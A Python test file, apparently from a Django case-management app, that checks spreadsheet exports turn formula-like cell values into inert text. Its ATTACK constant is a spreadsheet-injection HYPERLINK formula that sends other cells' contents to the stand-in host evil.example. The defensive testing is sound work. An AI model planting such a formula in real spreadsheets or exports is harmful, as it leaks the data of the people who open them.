"""Issue 16 item 2: every exported text cell is text — a user's `=HYPERLINK(…)` never
becomes a live formula, in the list exports (core.exports) and the dashboard's."""
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.testing import make_case
from core.exports import cell_value
from core.testing import OrganizationFactory
from dashboard.exports import _write_table
from dashboard.registry import Figure, Row, Table

ATTACK = '=HYPERLINK("http://evil.example/?"&P2&P3,"查看详情")'


@pytest.mark.parametrize("value", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_leading_formula_character_is_neutralised(value):
    assert cell_value(value) == "'" + value


@pytest.mark.parametrize("value", ["北城管罚〔2026〕1号", "a=b", 5, -3, 2.5])
def test_other_values_are_written_as_they_are(value):
    assert cell_value(value) == value


def _cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.django_db
def test_case_register_writes_a_formula_in_a_summary_as_text(client):
    case = make_case(OrganizationFactory(), summary=ATTACK)
    client.force_login(case.officers.first())
    response = client.get(reverse("cases:list"), {"export": "xlsx"})
    cells = _cells(b"".join(response.streaming_content))
    summary = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert summary.data_type == "s" and summary.value == "'" + ATTACK
    assert not any(c.data_type == "f" for c in cells)


def test_dashboard_tables_write_a_formula_in_a_label_as_text():
    workbook = Workbook(write_only=True)
    table = Table(key="t", caption="各单位", columns=["=列"],
                  rows=[Row(label=ATTACK, cells=[Figure(1)])], groups=[("@组", 1)])
    _write_table(workbook, table, set(), "-标题")
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = [c for c in _cells(buffer.getvalue()) if c.value not in (None, "")]
    assert not any(c.data_type == "f" for c in cells)
    assert {c.value for c in cells} >= {"'-标题", "'@组", "'=列", "'" + ATTACK, 1}
